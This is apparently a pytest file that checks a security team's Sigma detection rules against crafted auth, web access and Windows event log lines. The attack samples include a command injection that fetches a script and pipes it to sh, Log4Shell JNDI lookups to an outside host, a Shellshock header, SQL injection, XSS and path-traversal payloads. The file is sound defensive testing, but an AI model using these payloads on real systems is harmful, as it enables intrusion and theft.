"""The team's own Sigma rules in rules/sigma: each fires on an attack line and stays quiet on a benign one."""

from __future__ import annotations

import json
import re
import uuid
from pathlib import Path

import pytest
import yaml
from sigma.collection import SigmaCollection

from seccenter.detect.sigma import RuleSet, load_rules
from seccenter.pipeline import detect_paths

ROOT = Path(__file__).resolve().parents[1]
RULES_DIR = ROOT / "rules" / "sigma"
SAMPLES_DIR = ROOT / "seccenter" / "samples"

LEVELS = {"informational", "low", "medium", "high", "critical"}
REQUIRED_KEYS = {"title", "id", "status", "description", "author", "date", "logsource", "detection",
                 "falsepositives", "level", "tags"}
TECHNIQUE_TAG = re.compile(r"^attack\.t\d{4}(\.\d{3})?$")

FIREFOX = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0"
CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/131.0.0.0 Safari/537.36")
SITE = "https://www.musterstadt.example"


def auth(message: str, host: str = "rathaus-web01") -> str:
    """An auth.log line (RFC 3164) for ``prog[pid]: text``."""
    return f"Nov 24 02:11:07 {host} {message}"


def web(target: str, status: int = 200, size: int = 5123, agent: str = FIREFOX, method: str = "GET",
        referer: str = "-", client: str = "198.51.100.7") -> str:
    """An access log line in combined format."""
    return (f'{client} - - [24/Nov/2026:09:12:01 +0100] "{method} {target} HTTP/1.1" {status} {size} '
            f'"{referer}" "{agent}"')


ACCEPTED_KEY = auth("sshd[2210]: Accepted publickey for alice from 10.20.1.15 port 52344 ssh2: "
                    "ED25519 SHA256:q3Xl9tJwW0b6m4cB2hQ1zYkq8N7vR5sTfE0aGd1uHcI")
SUDO_BENIGN = auth("sudo[2334]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
                   "COMMAND=/usr/bin/systemctl restart nginx")

def windows(**fields: object) -> str:
    """A Windows event as a flat JSON line (EventID, Channel, TimeCreated and the event data)."""
    return json.dumps({"Computer": "rathaus-db01.rathaus.local", **fields})


def sysmon_process(image: str, command_line: str) -> str:
    return windows(TimeCreated="2026-11-24T10:00:00Z", EventID=1, Channel="Microsoft-Windows-Sysmon/Operational",
                   Image=image, CommandLine=command_line, ParentImage="C:\\Windows\\System32\\cmd.exe")


SQL_TOOLS = "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\"

# rule file -> (format, line the rule must fire on, benign line of the same format it must not fire on)
CASES: dict[str, tuple[str, str, str]] = {
    "linux_gdpr_database_dump.yml": (
        "auth",
        auth("sudo[3121]:  webadmin : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/pg_dumpall -f /tmp/x"),
        SUDO_BENIGN,
    ),
    "linux_gdpr_audit_logging_disabled.yml": (
        "auth",
        auth("sudo[3135]:  webadmin : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd"),
        auth("sudo[3135]:  alice : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/systemctl status auditd"),
    ),
    "win_gdpr_database_dump.yml": (
        "jsonl",
        sysmon_process(SQL_TOOLS + "bcp.exe", "bcp Melderegister.dbo.Einwohner out C:\\Users\\Public\\e.dat -c -T"),
        sysmon_process(SQL_TOOLS + "sqlcmd.exe", 'sqlcmd -S localhost -Q "SELECT @@VERSION"'),
    ),
    "win_gdpr_personal_data_share_off_hours.yml": (
        "jsonl",
        windows(TimeCreated="2026-11-24T22:48:02Z", EventID=5140, Channel="Security", SubjectUserName="svc_backup",
                ShareName="\\\\*\\Buergerdaten"),
        windows(TimeCreated="2026-11-24T08:48:02Z", EventID=5140, Channel="Security", SubjectUserName="anna",
                ShareName="\\\\*\\Buergerdaten"),
    ),
    "win_gdpr_event_log_cleared.yml": (
        "jsonl",
        windows(TimeCreated="2026-11-24T23:05:59Z", EventID=1102, Channel="Security", SubjectUserName="x"),
        windows(TimeCreated="2026-11-24T23:05:59Z", EventID=4624, Channel="Security", TargetUserName="x"),
    ),
    "linux_auth_ssh_root_login_failed.yml": (
        "auth",
        auth("sshd[2509]: Failed password for root from 203.0.113.7 port 39315 ssh2"),
        auth("sshd[2509]: Failed password for alice from 10.20.1.15 port 39315 ssh2"),
    ),
    "linux_auth_ssh_invalid_user.yml": (
        "auth",
        auth("sshd[2517]: Failed password for invalid user admin from 203.0.113.7 port 51234 ssh2"),
        ACCEPTED_KEY,
    ),
    "linux_auth_ssh_max_auth_attempts.yml": (
        "auth",
        auth("sshd[2538]: error: maximum authentication attempts exceeded for root from 203.0.113.7 "
             "port 43992 ssh2 [preauth]"),
        auth("sshd[2210]: Disconnected from user alice 10.20.1.15 port 52344"),
    ),
    "linux_auth_ssh_root_login_accepted.yml": (
        "auth",
        auth("sshd[2689]: Accepted password for root from 203.0.113.7 port 44120 ssh2", host="schule-srv02"),
        ACCEPTED_KEY,
    ),
    "linux_auth_sudo_shell.yml": (
        "auth",
        auth("sudo[2637]: webadmin : TTY=pts/1 ; PWD=/home/webadmin ; USER=root ; COMMAND=/bin/bash"),
        SUDO_BENIGN,
    ),
    "linux_auth_sudo_auth_failure.yml": (
        "auth",
        auth("sudo[2630]: webadmin : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/webadmin ; "
             "USER=root ; COMMAND=/usr/bin/id"),
        SUDO_BENIGN,
    ),
    "linux_auth_sudo_not_in_sudoers.yml": (
        "auth",
        auth("sudo[2701]: praktikant : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/praktikant ; USER=root ; "
             "COMMAND=/bin/bash", host="schule-srv02"),
        SUDO_BENIGN,
    ),
    "linux_auth_su_failed.yml": (
        "auth",
        auth("su[2710]: FAILED SU (to root) praktikant on pts/2", host="schule-srv02"),
        auth("su[2451]: Successful su for postgres by root", host="rathaus-db01"),
    ),
    "linux_auth_user_created.yml": (
        "auth",
        auth("useradd[2639]: new user: name=sysupdate, UID=1004, GID=1004, home=/home/sysupdate, "
             "shell=/bin/bash, from=/dev/pts/1"),
        auth("useradd[2482]: new user: name=_chrony, UID=110, GID=118, home=/var/lib/chrony, "
             "shell=/usr/sbin/nologin, from=none", host="rathaus-db01"),
    ),
    "linux_auth_user_added_to_privileged_group.yml": (
        "auth",
        auth("usermod[2654]: add 'sysupdate' to group 'sudo'"),
        auth("usermod[2485]: add 'jwagner' to group 'users'", host="schule-srv02"),
    ),
    "web_sqli_attempt.yml": (
        "access",
        web("/buergerservice/termin/details?id=4711%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20ZxcA"),
        web("/suche?q=union+kino+programm"),
    ),
    "web_path_traversal.yml": (
        "access",
        web("/downloads/get?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", status=403),
        web("/downloads/get?file=satzung-abfallgebuehren-2026.pdf", size=184220),
    ),
    "web_xss_attempt.yml": (
        "access",
        web("/suche?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", referer=f"{SITE}/suche"),
        web("/suche?q=personalausweis", referer=f"{SITE}/"),
    ),
    "web_scanner_user_agent.yml": (
        "access",
        web("/", agent="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"),
        web("/index.html"),
    ),
    "web_dotenv_probe.yml": (
        "access",
        web("/.env", status=404, size=196, agent=CHROME, client="203.0.113.99"),
        web("/umwelt/environment-report-2026.pdf", agent=CHROME),
    ),
    "web_wordpress_login_probe.yml": (
        "access",
        web("/wp-login.php", status=404, size=196, method="POST", client="203.0.113.140"),
        web("/buergerkonto/login", method="POST", status=302, size=0),
    ),
    "web_etc_passwd_access.yml": (
        "access",
        web("/index.php?page=../../../../../../etc/passwd", status=404, size=196),
        web("/buergerkonto/passwort-vergessen"),
    ),
    "web_shellshock_attempt.yml": (
        "access",
        web("/cgi-bin/status", status=404, size=196, agent="() { :; }; echo; /bin/bash -c 'cat /etc/passwd'"),
        web("/cgi-bin/status", agent=CHROME),
    ),
    "web_command_injection_attempt.yml": (
        "access",
        web("/buergerservice/ping?host=127.0.0.1%3Bwget%20http%3A%2F%2F203.0.113.81%2Fx.sh%20-O-%7Csh",
            status=404, size=196),
        web("/buergerservice/termin?datum=2026-11-26&uhrzeit=09%3A30"),
    ),
    "web_log4shell_jndi_lookup.yml": (
        "access",
        web("/", agent="${jndi:ldap://203.0.113.170:1389/Basic/Command/Base64/d2dldA}"),
        web("/gebuehren?betrag=%2450"),
    ),
    "web_vcs_metadata_probe.yml": (
        "access",
        web("/.git/config", status=404, size=196),
        web("/digital/git-schulung"),
    ),
    "web_sensitive_file_probe.yml": (
        "access",
        web("/wp-config.php.bak", status=404, size=196),
        web("/downloads/haushaltsplan-2026.zip", size=88120),
    ),
}

# Variants worth pinning down: (rule file, format, line, must fire?)
VARIANTS: list[tuple[str, str, str, bool]] = [
    ("linux_auth_ssh_root_login_failed.yml", "auth",
     auth("sshd[2509]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
          "rhost=173.234.31.186  user=root"), True),
    ("linux_auth_ssh_root_login_failed.yml", "auth",
     auth("sshd(pam_unix)[2509]: authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
          "rhost=203.0.113.7  user=root"), True),
    ("linux_auth_ssh_root_login_failed.yml", "auth",
     auth("sshd[2509]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
          "rhost=10.20.1.15  user=alice"), False),
    ("linux_auth_ssh_invalid_user.yml", "auth",
     auth("sshd[2517]: Invalid user oracle from 203.0.113.7 port 41419"), True),
    ("linux_auth_ssh_invalid_user.yml", "auth",
     auth("sshd[2509]: Failed password for root from 203.0.113.7 port 39315 ssh2"), False),
    ("linux_auth_sudo_shell.yml", "auth",
     auth("sudo[2637]: jwagner : TTY=pts/0 ; PWD=/home/jwagner ; USER=root ; COMMAND=/usr/bin/su -"), True),
    ("linux_auth_sudo_shell.yml", "auth",
     auth("sudo[2637]: jwagner : TTY=pts/0 ; PWD=/tmp ; USER=root ; "
          "COMMAND=/usr/bin/python3 -c import pty;pty.spawn(\"/bin/sh\")"), True),
    ("linux_auth_sudo_shell.yml", "auth",
     auth("sudo[2630]: webadmin : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/webadmin ; "
          "USER=root ; COMMAND=/bin/bash"), False),
    ("linux_auth_sudo_shell.yml", "auth",
     auth("sudo[2637]: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/ssh backup01"),
     False),
    ("linux_auth_su_failed.yml", "auth",
     auth("su[2710]: pam_unix(su:auth): authentication failure; logname=praktikant uid=1005 euid=0 "
          "tty=/dev/pts/2 ruser=praktikant rhost=  user=root"), True),
    ("linux_auth_su_failed.yml", "auth",
     auth("su(pam_unix)[2710]: authentication failure; logname=praktikant uid=1005 euid=0 tty=pts/2 "
          "ruser=praktikant rhost=  user=root"), True),
    ("linux_auth_su_failed.yml", "auth",
     auth("sudo[2630]: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 "
          "tty=/dev/pts/0 ruser=alice rhost=  user=alice"), False),
    ("linux_auth_su_failed.yml", "auth",
     auth("sshd[2509]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
          "rhost=203.0.113.7  user=root"), False),
    ("linux_auth_user_added_to_privileged_group.yml", "auth",
     auth("usermod[2654]: add 'sysupdate' to shadow group 'sudo'"), True),
    ("web_sqli_attempt.yml", "access",
     web("/buergerservice/termin/details?id=4711%27%20AND%206232%3D6232%20AND%20%27wbOl%27%3D%27wbOl"), True),
    ("web_sqli_attempt.yml", "access",
     web("/buergerservice/termin/details?id=4711%20AND%20SLEEP%285%29"), True),
    ("web_sqli_attempt.yml", "access", web("/veranstaltungen?monat=12&jahr=2026"), False),
    ("web_sqli_attempt.yml", "access", web("/suche?q=bus+and+bahn+linie+12"), False),
    ("web_path_traversal.yml", "access", web("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", status=400), True),
    ("web_path_traversal.yml", "access", web("/static/css/main.css?v=3.2"), False),
    ("web_xss_attempt.yml", "access",
     web("/suche?q=%22%3E%3Csvg%2Fonload%3Dalert(document.domain)%3E"), True),
    ("web_scanner_user_agent.yml", "access",
     web("/", agent="sqlmap/1.8.11#stable (https://sqlmap.org)"), True),
    ("web_scanner_user_agent.yml", "access",
     web("/", agent="Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), False),
    ("web_dotenv_probe.yml", "access", web("/api/.env.production", status=404), True),
    ("web_command_injection_attempt.yml", "access", web("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", method="POST"),
     True),
    ("web_log4shell_jndi_lookup.yml", "access",
     web("/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.170%3A1389%2Fa%7D"), True),
]


def rule_files() -> list[str]:
    return sorted(path.name for path in RULES_DIR.iterdir() if path.suffix in (".yml", ".yaml"))


@pytest.fixture(scope="module")
def ruleset() -> RuleSet:
    return load_rules([RULES_DIR])


@pytest.fixture(scope="module")
def rule_ids(ruleset: RuleSet) -> dict[str, str]:
    """The one-rule-per-file rules at the top of rules/sigma (correlations/ has its own tests)."""
    return {Path(rule.path).name: rule.id for rule in ruleset.rules if Path(rule.path).parent == RULES_DIR}


def fired(tmp_path: Path, ruleset: RuleSet, fmt: str, line: str) -> set[str]:
    log = tmp_path / {"auth": "auth.log", "access": "access.log", "jsonl": "events.jsonl"}[fmt]
    log.write_text(line + "\n", encoding="utf-8")
    return {alert.rule_id for alert in detect_paths([log], ruleset, fmt=fmt)}


def test_every_rule_file_has_a_case() -> None:
    files = rule_files()
    assert len(files) >= 14
    assert sorted(CASES) == files, "each rule in rules/sigma needs a case in CASES (and each case a rule)"


def test_rules_load_without_errors(ruleset: RuleSet) -> None:
    assert ruleset.errors == []
    top_level = [rule for rule in ruleset.rules if Path(rule.path).parent == RULES_DIR]
    assert sorted(Path(rule.path).name for rule in top_level) == rule_files()  # one rule per file
    collection = SigmaCollection.load_ruleset([str(path) for path in sorted(RULES_DIR.glob("*.yml"))],
                                              collect_errors=True)
    assert [(str(rule.source), rule.errors) for rule in collection.rules if rule.errors] == []
    assert len(collection.rules) == len(rule_files())


def test_rule_files_follow_team_conventions() -> None:
    ids = set()
    for name in rule_files():
        rule = yaml.safe_load((RULES_DIR / name).read_text(encoding="utf-8"))
        missing = REQUIRED_KEYS - rule.keys()
        assert not missing, f"{name}: missing {sorted(missing)}"
        assert rule["status"] == "experimental", name
        assert rule["author"] == "seccenter team", name
        assert rule["level"] in LEVELS, name
        assert str(uuid.UUID(rule["id"])) == rule["id"], name
        ids.add(rule["id"])
    assert len(ids) == len(rule_files()), "rule ids must be unique"


def test_rules_have_level_and_attack_tags(ruleset: RuleSet) -> None:
    for rule in [*ruleset.rules, *ruleset.correlations]:
        name = Path(rule.path).name if hasattr(rule, "path") else rule.title
        assert rule.level in LEVELS, name
        attack = [tag for tag in rule.tags if tag.startswith("attack.")]
        assert any(TECHNIQUE_TAG.match(tag) for tag in attack), f"{name}: no ATT&CK technique tag"
        assert any(not TECHNIQUE_TAG.match(tag) for tag in attack), f"{name}: no ATT&CK tactic tag"


@pytest.mark.parametrize("name", sorted(CASES))
def test_rule_fires_on_attack_line(name: str, tmp_path: Path, ruleset: RuleSet,
                                   rule_ids: dict[str, str]) -> None:
    fmt, malicious, _benign = CASES[name]
    assert rule_ids[name] in fired(tmp_path, ruleset, fmt, malicious)


@pytest.mark.parametrize("name", sorted(CASES))
def test_rule_quiet_on_benign_line(name: str, tmp_path: Path, ruleset: RuleSet,
                                   rule_ids: dict[str, str]) -> None:
    fmt, _malicious, benign = CASES[name]
    assert rule_ids[name] not in fired(tmp_path, ruleset, fmt, benign)


VARIANT_IDS = [f"{name.removesuffix('.yml')}-{index}" for index, (name, *_) in enumerate(VARIANTS)]


@pytest.mark.parametrize(("name", "fmt", "line", "expected"), VARIANTS, ids=VARIANT_IDS)
def test_rule_variants(name: str, fmt: str, line: str, expected: bool, tmp_path: Path, ruleset: RuleSet,
                       rule_ids: dict[str, str]) -> None:
    assert (rule_ids[name] in fired(tmp_path, ruleset, fmt, line)) is expected


def test_every_rule_fires_on_samples(ruleset: RuleSet, rule_ids: dict[str, str]) -> None:
    samples = sorted(path for path in SAMPLES_DIR.iterdir() if path.suffix in (".log", ".jsonl"))
    assert {path.name for path in samples} >= {"auth.log", "access.log", "windows.jsonl"}
    seen = {alert.rule_id for alert in detect_paths(samples, ruleset)}
    silent = sorted(name for name, rule_id in rule_ids.items() if rule_id not in seen)
    assert silent == [], f"rules that never fire on {SAMPLES_DIR}: {silent}"
